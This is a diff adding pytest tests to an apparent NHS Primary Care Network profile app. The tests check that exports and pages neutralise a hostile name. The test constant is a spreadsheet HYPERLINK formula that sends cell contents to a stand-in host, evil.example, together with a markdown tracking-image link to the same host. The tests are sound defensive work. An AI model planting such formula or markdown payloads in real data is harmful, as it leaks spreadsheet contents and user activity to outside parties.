@@ -81,3 +81,53 @@ def test_a_second_upload_while_one_builds_is_refused_plainly(demo_dir, demo_db, 
                                         db)
     assert "another build of this database is running; nothing was changed" in failed.value.report.errors[0].message
     assert db.read_bytes() == before
+
+
+HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") ![x](http://evil.example/pixel.png)"
+
+
+@pytest.fixture
+def hostile_db(demo_dir, tmp_path):
+    """The demo with one PCN named with a spreadsheet formula and a markdown image pointing elsewhere."""
+    folder = tmp_path / "hostile"
+    shutil.copytree(demo_dir, folder)
+    for path in folder.glob("MAPPING_NHS_GEOGRAPHIES_*.csv"):
+        frame = pd.read_csv(path, dtype=str)
+        frame.loc[frame.PCN_ODS_CODE == "U90001", "PCN_NAME"] = HOSTILE_NAME
+        frame.to_csv(path, index=False)
+    db = tmp_path / "hostile.duckdb"
+    store.build(folder, db)
+    return db
+
+
+def test_exports_never_carry_a_live_formula(hostile_db, tmp_path):
+    import io
+
+    import openpyxl
+
+    from phm_profile import exports, views, workforce
+
+    key = views.database_key(hostile_db)
+    table = views.indicator_across_pcns(key, "QZB", "2023-24", "prev_mh", True)
+    assert HOSTILE_NAME in set(table.pcn_name)
+    text = exports.csv_bytes(table).decode()
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
+    plan_inputs = pd.Series({"pcn_name": HOSTILE_NAME, "list_size": 50_000})
+    book = exports.plan_xlsx(pd.DataFrame({"pcn": [HOSTILE_NAME], "wte": [1.0]}), workforce.Assumptions(),
+                             plan_inputs, pd.DataFrame({"note": ["@SUM(1,2)"]}), suppress=False)
+    cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets for row in sheet.iter_rows()
+             for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@", "'="))]
+    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
+
+
+def test_names_from_files_are_shown_as_plain_text(hostile_db, monkeypatch):
+    monkeypatch.setattr("phm_profile.views.DEFAULT_DB", hostile_db)
+    monkeypatch.setattr("phm_profile.views.database_path", lambda: hostile_db)
+    at = AppTest.from_file(str(ROOT / "pages" / "1_PCN_profile.py"), default_timeout=60)
+    at.query_params["pcn"] = "U90001"
+    at.query_params["icb"] = "QZB"
+    at.run()
+    assert not at.exception
+    shown = [e.value for e in (*at.title, *at.markdown)]
+    assert any("evil.example" in v for v in shown)  # the name is there, as text
+    assert not any("![x](http" in v for v in shown)  # never as a markdown image
